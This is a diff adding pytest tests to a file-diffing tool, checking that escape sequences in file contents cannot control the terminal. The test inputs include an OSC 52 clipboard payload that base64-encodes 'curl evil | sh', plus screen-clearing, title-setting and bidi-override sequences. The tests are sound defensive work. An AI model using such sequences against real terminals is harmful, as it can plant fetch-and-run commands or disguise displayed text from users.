@@ -218,3 +218,35 @@ def test_a_folder_in_the_place_of_the_file_is_left_alone(root: Path) -> None:
     with pytest.raises(IgorError, match="x is neither a file nor a link here"):
         taken(root, b"x", b"theirs")
     assert sorted(os.listdir(root)) == ["src", "x"]
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        b"\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
+        b"\x1b]0;title\x07",
+        b"\x1b[2J\x1b[H",
+        b"\x1bP+q544e\x1b\\",
+        b"\xc2\x9b2J",
+        b"\x9b2J",
+        b"before\rafter",
+        b"\x08\x08\x7f",
+        "a\u202eb\u2066".encode(),
+    ],
+)
+async def test_no_content_of_a_file_commands_the_screen(attack: bytes) -> None:
+    there = side_on_host("there", State("f", 1, 1, 0o644), b"x = 1\n" + attack + b"\n", b"")
+    for one, other in ((there, Side("here")), (Side("here"), there)):
+        shown = await difference(one, other, "", colour=False, screen=True)
+        text = shown.decode()
+        assert not [char for char in text if not char.isprintable() and char not in "\n\t"], text
+        exact = await difference(one, other, "", colour=False)
+        assert attack in exact
+    painted = await difference(there, Side("here"), "", colour=True, screen=True)
+    assert attack not in painted
+
+
+async def test_letters_blanks_and_line_ends_are_as_they_are() -> None:
+    content = "\tdef größe(值):\u3000# ½ 🙂\r\n".encode()
+    there = side_on_host("there", State("f", 1, 1, 0o644), content, b"")
+    assert b"-" + content in await difference(there, Side("here"), "", colour=False, screen=True)
